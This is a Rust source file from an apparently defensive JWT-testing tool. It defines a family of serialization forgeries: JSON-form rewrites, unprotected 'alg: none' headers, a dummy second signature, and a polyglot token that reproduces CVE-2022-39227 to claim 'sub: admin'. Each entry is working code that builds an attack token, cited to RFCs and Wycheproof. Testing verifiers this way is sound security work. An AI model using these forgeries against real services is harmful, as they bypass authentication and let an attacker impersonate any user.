//! The same token written in another form than the one that is due.

use serde_json::json;

use crate::attack::{
    Family, Forged, Forgery, Make, Signed, Stage,
    draft::{Draft, raw},
};

const MEANS: &str = "JSON forms are taken where the compact form is due (RFC 7519 §3): checks made on the compact form are walked around.";
const UNPROTECTED: &str = "A header that no signature covers decides: anyone can write any token.";

pub(super) static FAMILY: Family = Family {
    name: "serialization",
    title: "Serialization",
    says: "The same token written in another form than the one that is due.",
    stage: Stage::Form,
    forgeries: &[
        Forgery {
            name: "json-flattened",
            title: "Flattened JSON",
            mutates: "The token is written in the flattened JSON form; the signature is good.",
            source: "RFC 7515 §7.2.2, RFC 7519 §3; Wycheproof",
            means: MEANS,
            make: Make::Token(|d| {
                let [h, p, s] = d.parts()?;
                json_form(json!({ "payload": p, "protected": h, "signature": s }))
            }),
            ..forgery()
        },
        Forgery {
            name: "json-general",
            title: "General JSON",
            mutates: "The token is written in the general JSON form; the signature is good.",
            source: "RFC 7515 §7.2.1, RFC 7519 §3; Wycheproof",
            means: MEANS,
            make: Make::Token(|d| {
                let [h, p, s] = d.parts()?;
                json_form(
                    json!({ "payload": p, "signatures": [{ "protected": h, "signature": s }] }),
                )
            }),
            ..forgery()
        },
        Forgery {
            name: "json-unprotected-alg",
            title: "Unprotected `alg: none`",
            mutates: "The flattened JSON form, with `alg: none` in the unprotected header and no signature.",
            source: "RFC 7515 §7.2.1, RFC 8725 §3.2; jwt-hack",
            means: UNPROTECTED,
            make: Make::Token(|d| {
                let [_, p, _] = d.parts()?;
                json_form(json!({ "payload": p, "header": { "alg": "none" }, "signature": "" }))
            }),
            ..forgery()
        },
        Forgery {
            name: "json-unprotected-override",
            title: "Unprotected `alg` beside the protected one",
            mutates: "The flattened JSON form; the unprotected header has `alg: none` as well.",
            source: "RFC 7515 §7.2.1; own",
            means: UNPROTECTED,
            make: Make::Token(|d| {
                let [h, p, s] = d.parts()?;
                json_form(
                    json!({ "payload": p, "protected": h, "header": { "alg": "none" }, "signature": s }),
                )
            }),
            ..forgery()
        },
        Forgery {
            name: "json-second-signature",
            title: "A second signature",
            mutates: "The general JSON form; the issuer's signature stands beside one that is none.",
            source: "RFC 7515 §7.2.1; own",
            means: "One of several signatures is enough, or the wrong one is looked at.",
            make: Make::Token(|d| {
                let [h, p, s] = d.parts()?;
                json_form(
                    json!({ "payload": p, "signatures": [{ "protected": crate::jose::b64::encode("{\"alg\":\"none\"}"), "signature": "" }, { "protected": h, "signature": s }] }),
                )
            }),
            ..forgery()
        },
        Forgery {
            name: "json-two-payloads",
            title: "Compact and JSON at once",
            mutates: "The flattened JSON form with a forged payload, and the good token in a member beside it.",
            source: "RFC 7515 §7.2.2; own (the polyglot of CVE-2022-39227)",
            means: "Verified is one token, read is the other: anyone can write any claims (CVE-2022-39227).",
            make: Make::Token(polyglot),
            ..forgery()
        },
    ],
    ..Family::BASE
};

/// What its forgeries have in common.
const fn forgery() -> Forgery {
    Forgery::of(&FAMILY)
}

#[allow(clippy::needless_pass_by_value)] // made at the place of use
fn json_form(value: serde_json::Value) -> Forged {
    raw(value.to_string(), Signed::Altered)
}

/// python-jwt split the text at its dots for the claims and gave the whole to a JSON verifier.
fn polyglot(d: &Draft<'_>) -> Forged {
    let [header, payload, signature] = d.parts()?;
    let forged = crate::jose::b64::encode(d.payload_set("/sub", Some("admin".into()))?);
    raw(
        format!(
            "{{\"  {header}.{forged}.\":\"\",\"protected\":\"{header}\",\"payload\":\"{payload}\",\"signature\":\"{signature}\"}}"
        ),
        Signed::Altered,
    )
}
